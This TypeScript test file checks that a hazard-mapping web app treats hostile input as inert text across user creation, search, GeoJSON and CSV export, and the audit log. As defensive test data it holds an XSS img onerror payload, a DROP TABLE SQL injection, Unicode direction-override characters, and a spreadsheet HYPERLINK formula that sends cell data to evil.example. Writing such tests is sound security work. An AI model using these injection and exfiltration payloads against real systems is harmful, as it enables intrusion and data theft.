/**
 * Hostile text that is valid: what is left here crosses capabilities. A display name or an object's
 * name full of markup, SQL and unusual characters must be stored and answered exactly, as inert
 * text, through users, layers, search, exports (CSV formulas defused) and the audit log; and search
 * must take SQL and LIKE wildcards literally. The bad-input tables sit beside their routes
 * (`server/<capability>/<capability>.bad-input.test.ts`, harness in `server/testing/bad-input.ts`).
 */
import { sql } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import {
  badInputHarness,
  type DemoUser,
  JSON_HEADERS as json,
  newUser,
  script,
  sqlInjection,
  unionInjection,
} from './testing/bad-input.ts'
import { pointInMunicipality } from './testing/municipality-point.ts'

/** A point in the middle of the demo municipality, where new objects may lie. */
let inside: [number, number] = [0, 0]
const h = badInputHarness(async (harness) => {
  const [x, y] = await pointInMunicipality(harness.db)
  inside = [Number(x.toFixed(6)), Number(y.toFixed(6))]
})

/** A new object for a layer, by the analyst (who may edit every hazard layer). */
const create = (layer: string, feature: () => unknown, as: DemoUser = 'analytiker') => ({
  as,
  method: 'POST' as const,
  path: `/api/layers/${layer}/features`,
  headers: json,
  body: feature,
})
const site =
  (properties: Record<string, unknown> = {}) =>
  () => ({
    type: 'Feature',
    geometry: { type: 'Point', coordinates: inside },
    properties: { name: 'Testmacken', kind: 'petrol_station', ...properties },
  })

describe('hostile text that is valid is stored and answered as inert text', () => {
  const hostileName = `<img src=x onerror=alert(1)> ${script} '; DROP TABLE hazard_sites; --`
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'

  it('keeps a display name with markup, SQL and unusual characters exactly, as a JSON string', async () => {
    const displayName = `${script} Ro\u0308d 🚒 \u202eemos\u202c ${sqlInjection}`
    const res = await h.send({
      ...newUser({ username: `hostile-${Date.now().toString(36)}`, displayName }),
      status: 201,
      name: 'hostile display name',
    })
    expect(res.status).toBe(201)
    expect(res.headers.get('content-type')).toMatch(/^application\/json/)
    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
    expect(res.headers.get('content-security-policy')).toMatch(/script-src 'self'/)
    const { user } = (await res.json()) as { user: { id: string; displayName: string } }
    expect(user.displayName).toBe(displayName)
    const listed = (await (
      await h.send({ as: 'admin', path: '/api/users', status: 200, name: 'list' })
    ).json()) as {
      users: { id: string; displayName: string }[]
    }
    expect(listed.users.find((u) => u.id === user.id)?.displayName).toBe(displayName)
  })

  it('keeps an object’s hostile name and a spreadsheet formula exactly, and defuses the formula in CSV', async () => {
    const res = await h.send({
      ...create('hazard-sites', site({ name: hostileName, operator: formula })),
      status: 201,
      name: 'hostile site',
    })
    expect(res.status).toBe(201)
    const created = (await res.json()) as { id: string; properties: Record<string, unknown> }
    expect(created.properties).toMatchObject({ name: hostileName, operator: formula })

    const read = await (
      await h.app.request(`/api/layers/hazard-sites/features/${created.id}`, {
        headers: { cookie: h.cookies.lasare },
      })
    ).json()
    expect(read.properties).toMatchObject({ name: hostileName, operator: formula })

    const search = (await (
      await h.app.request(`/api/search?q=${encodeURIComponent('onerror=alert(1)')}`, {
        headers: { cookie: h.cookies.lasare },
      })
    ).json()) as { results: { id: string; name: string }[] }
    expect(search.results.find((r) => r.id === created.id)?.name).toBe(hostileName)

    const geojson = (await (
      await h.app.request('/api/layers/hazard-sites/export?format=geojson', {
        headers: { cookie: h.cookies.krisledare },
      })
    ).json()) as { features: { id: string; properties: Record<string, unknown> }[] }
    expect(geojson.features.find((f) => f.id === created.id)?.properties).toMatchObject({
      name: hostileName,
      operator: formula,
    })

    const csv = await (
      await h.app.request('/api/layers/hazard-sites/export?format=csv', {
        headers: { cookie: h.cookies.krisledare },
      })
    ).text()
    const line = csv.split('\r\n').find((l) => l.startsWith(created.id))
    expect(line).toBeDefined()
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")"`)
    expect(line).not.toMatch(/(^|,)"?=HYPERLINK/)

    const [audit] = await h.db.query<{ after: { properties: Record<string, unknown> } }>(
      sql`SELECT after FROM audit_log WHERE entity_id = ${created.id} AND action = 'create'`,
    )
    expect(audit?.after.properties).toMatchObject({ name: hostileName, operator: formula })
  })

  it.each([sqlInjection, unionInjection, "%' OR name LIKE '%", '\\\\_%'])(
    'searches for %s literally, finding only names that contain it',
    async (text) => {
      for (const user of ['lasare', 'krisledare'] as const) {
        const res = await h.app.request(`/api/search?q=${encodeURIComponent(text)}&limit=50`, {
          headers: { cookie: h.cookies[user] },
        })
        expect(res.status).toBe(200)
        const { results } = (await res.json()) as { results: { name: string }[] }
        for (const r of results) expect(r.name.toLowerCase()).toContain(text.toLowerCase())
      }
    },
  )
})
